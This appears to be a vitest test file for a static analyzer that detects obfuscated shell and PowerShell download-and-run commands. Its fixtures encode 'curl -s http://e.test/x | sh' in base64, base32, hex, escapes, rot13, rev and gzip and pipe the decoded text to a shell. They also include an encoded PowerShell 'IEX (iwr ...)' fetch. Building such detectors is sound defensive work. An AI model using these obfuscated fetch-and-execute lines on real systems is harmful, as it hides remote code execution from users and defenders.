import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Decoders: each emits a `decode` fact with the decoded text when the input is static, and the
 * decoded value flows on (into `| sh`, or into an embedded unit that is analysed in turn). The payload
 * in every case decodes to `curl -s http://e.test/x | sh` or a part of it.
 */

const PAYLOAD = 'curl -s http://e.test/x | sh';
const b64 = Buffer.from(PAYLOAD).toString('base64');
const hex = Buffer.from(PAYLOAD).toString('hex');
const b32 = base32(PAYLOAD);

/** RFC 4648 base32, for building the fixture (the analyzer has its own decoder). */
function base32(text: string): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const b of Buffer.from(text)) bits += b.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += A[Number.parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out.padEnd(Math.ceil(out.length / 8) * 8, '=');
}
const escaped = [...PAYLOAD].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const octal = [...PAYLOAD].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const reversed = [...PAYLOAD].reverse().join('');
const rot13 = PAYLOAD.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));

const cases: Array<[string, string, string]> = [
  ['base64 -d', `echo ${b64} | base64 -d | bash\n`, 'base64'],
  ['base64 --decode from a variable', `P="${b64}"\nprintf %s "$P" | base64 --decode | sh\n`, 'base64'],
  ['macOS base64 -D in a substitution', `bash -c "$(echo ${b64} | base64 -D)"\n`, 'base64'],
  ['base64 in a here-string', `base64 -d <<< ${b64} | sh\n`, 'base64'],
  ['base32', `echo ${b32} | base32 -d | sh\n`, 'base32'],
  ['xxd -r -p', `echo ${hex} | xxd -r -p | sh\n`, 'hex'],
  ['printf hex escapes', `printf '${escaped}' | sh\n`, 'escape'],
  ['printf octal escapes', `printf '${octal}' | sh\n`, 'escape'],
  ['echo -e', `echo -e '${escaped}' | sh\n`, 'escape'],
  ['ANSI-C string to eval', `eval $'${escaped}'\n`, 'escape'],
  ['rev', `echo '${reversed}' | rev | sh\n`, 'rev'],
  ['tr rot13', `echo '${rot13}' | tr 'a-z' 'n-za-m' | sh\n`, 'rot13'],
  ['openssl base64', `echo ${b64} | openssl enc -d -a | sh\n`, 'base64'],
  ['here-doc of base64', `base64 -d <<EOF | bash\n${b64}\nEOF\n`, 'base64'],
];

describe('decoded payloads', () => {
  it.each(cases)('%s', async (_label, code, scheme) => {
    const r = await factsOf('shell', code);
    const d = ofKind(r, 'decode').find((x) => x.scheme === scheme);
    expect(d, JSON.stringify(r.behaviours.map((b) => b.kind))).toBeDefined();
    expect(d!.decoded).toContain('e.test');
    const executes = ofKind(r, 'execute');
    expect(executes.some((e) => e.code.taints.includes('decoded'))).toBe(true);
    // The decoded program is analysed as shell: its own download-and-run is found.
    expect(
      ofKind(r, 'execute').some((e) => e.code.taints.includes('download') && e.endpoint?.host === 'e.test'),
    ).toBe(true);
  });

  it('inflates gzip carried in base64', async () => {
    const { gzipSync } = await import('node:zlib');
    const gz = gzipSync(Buffer.from(PAYLOAD)).toString('base64');
    const r = await factsOf('shell', `echo ${gz} | base64 -d | gunzip | sh\n`);
    expect(ofKind(r, 'decode').find((d) => d.scheme === 'gzip')?.decoded).toBe(PAYLOAD);
  });

  it('decodes PowerShell -EncodedCommand (UTF-16LE base64) and embeds it as PowerShell', async () => {
    const enc = Buffer.from('IEX (iwr http://e.test/p.ps1)', 'utf16le').toString('base64');
    for (const flag of ['-EncodedCommand', '-enc', '-e', '-ec']) {
      const r = await factsOf('shell', `pwsh -NoProfile ${flag} ${enc}\n`);
      expect(ofKind(r, 'decode')[0]).toMatchObject({
        scheme: 'utf16le-base64',
        decoded: 'IEX (iwr http://e.test/p.ps1)',
      });
      expect(r.units.some((u) => u.lang === 'powershell' && u.origin === 'embedded')).toBe(true);
    }
  });

  it('records a decode of data it cannot see, without decoded text', async () => {
    const r = await factsOf('shell', 'echo "$BLOB" | base64 -d > /tmp/x\n');
    const d = ofKind(r, 'decode')[0];
    expect(d?.scheme).toBe('base64');
    expect(d?.decoded).toBeUndefined();
    expect(d?.input.vars).toContain('BLOB');
  });
});

describe('encodings that hide nothing', () => {
  it.each([
    ['base64 encoding (not decoding)', 'base64 -w0 image.png > image.b64\n'],
    ['a newline ANSI-C string', 'IFS=$\'\\n\'\nfor f in $(ls); do echo "$f"; done\n'],
    ['tr case conversion', "echo \"$NAME\" | tr '[:upper:]' '[:lower:]'\n"],
    ['printf with a newline', "printf 'done\\n'\n"],
    ['a placeholder after -enc', 'powershell -nop -w hidden -enc BASE64_PAYLOAD\n'],
    ['a placeholder word that is valid base64', 'powershell -nop -enc PAYLOADHERE\n'],
  ])('%s', async (_label, code) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'decode')).toEqual([]);
    expect(ofKind(r, 'execute')).toEqual([]);
  });
});
